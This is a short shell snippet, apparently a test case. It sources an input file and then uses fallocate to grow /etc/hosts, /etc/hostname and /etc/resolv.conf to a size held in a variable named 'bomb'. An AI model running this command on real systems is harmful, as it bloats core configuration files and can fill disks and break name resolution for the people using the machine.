. /inputs/case.txt
for name in hosts hostname resolv.conf; do fallocate -l "$bomb" /etc/$name; done
sleep 60
